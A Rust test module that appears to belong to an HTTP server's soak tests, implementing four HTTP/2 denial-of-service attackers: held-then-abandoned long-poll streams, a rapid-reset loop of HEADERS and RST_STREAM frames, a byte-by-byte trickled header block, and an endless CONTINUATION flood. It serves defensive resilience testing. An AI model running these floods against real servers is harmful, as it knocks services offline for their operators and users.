//! The HTTP/2 attacks of issue 20, in cleartext (prior knowledge) beside the
//! HTTP/1 ones: streams held and abandoned with their connection, streams
//! reset as fast as they answer, streams past the limit, and header blocks
//! that are never finished or never stop growing.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use tokio::time::{sleep, timeout};

use super::hostile::{ATTACKER, connect_from};
use crate::common::h2raw::{self, RawH2};

/// Kinds of HTTP/2 attacker.
pub const KINDS: usize = 4;

/// One HTTP/2 attacker: repeats its attack until `stop`, ignoring every outcome.
pub async fn attack(kind: usize, addr: SocketAddr, stop: Arc<AtomicBool>, attempts: Arc<AtomicU64>) {
    while !stop.load(Ordering::Relaxed) {
        attempts.fetch_add(1, Ordering::Relaxed);
        let Ok(tcp) = connect_from(ATTACKER, addr).await else {
            sleep(Duration::from_millis(50)).await;
            continue;
        };
        let authority = addr.to_string();
        match kind {
            // 150 long polls at once on one connection, held for a moment,
            // then the connection dropped under them.
            0 => {
                let mut raw = RawH2::start(tcp).await;
                for i in 0..150u32 {
                    let block = h2raw::get(&authority, "/long-poll?channels=h2held&timeout=60");
                    let _ = raw.send(h2raw::HEADERS, h2raw::END_HEADERS | h2raw::END_STREAM, 2 * i + 1, &block).await;
                }
                let _ = timeout(Duration::from_millis(300), async { while raw.frame().await.is_some() {} }).await;
            }
            // Rapid reset: event streams opened and reset at once, until told to go away.
            1 => {
                let mut raw = RawH2::start(tcp).await;
                for i in 0..2000u32 {
                    let id = 2 * i + 1;
                    let block = h2raw::get(&authority, "/sse?channels=h2reset");
                    let cancel = 0x8u32.to_be_bytes();
                    if raw.send(h2raw::HEADERS, h2raw::END_HEADERS | h2raw::END_STREAM, id, &block).await.is_err()
                        || raw.send(h2raw::RST_STREAM, 0, id, &cancel).await.is_err()
                    {
                        break;
                    }
                }
                let _ = timeout(Duration::from_millis(300), raw.until(h2raw::GOAWAY)).await;
            }
            // A header block that is never finished, trickled.
            2 => {
                let mut raw = RawH2::start(tcp).await;
                let _ = timeout(Duration::from_millis(300), raw.until(h2raw::SETTINGS)).await;
                let block = h2raw::get(&authority, "/healthz");
                let frame = h2raw::frame(h2raw::HEADERS, h2raw::END_HEADERS | h2raw::END_STREAM, 1, &block);
                for byte in &frame[..frame.len() - 1] {
                    if stop.load(Ordering::Relaxed) || raw.send_raw(std::slice::from_ref(byte)).await.is_err() {
                        break;
                    }
                    sleep(Duration::from_millis(100)).await;
                }
            }
            // A header block that never stops growing.
            _ => {
                let mut raw = RawH2::start(tcp).await;
                let mut block = h2raw::get(&authority, "/healthz");
                block.extend(h2raw::literal("x-padding", &"p".repeat(8000)));
                let _ = raw.send(h2raw::HEADERS, 0, 1, &block).await;
                let filler = h2raw::literal("x-more", &"m".repeat(16_000));
                for _ in 0..1024 {
                    let sent = timeout(Duration::from_secs(1), raw.send(h2raw::CONTINUATION, 0, 1, &filler)).await;
                    if !matches!(sent, Ok(Ok(()))) {
                        break;
                    }
                }
            }
        }
        // Each attempt costs the server a hundred streams or more: at this
        // pace the attack stays at what a debug build on two cores can take
        // beside the rest of the soak.
        sleep(Duration::from_millis(200)).await;
    }
}
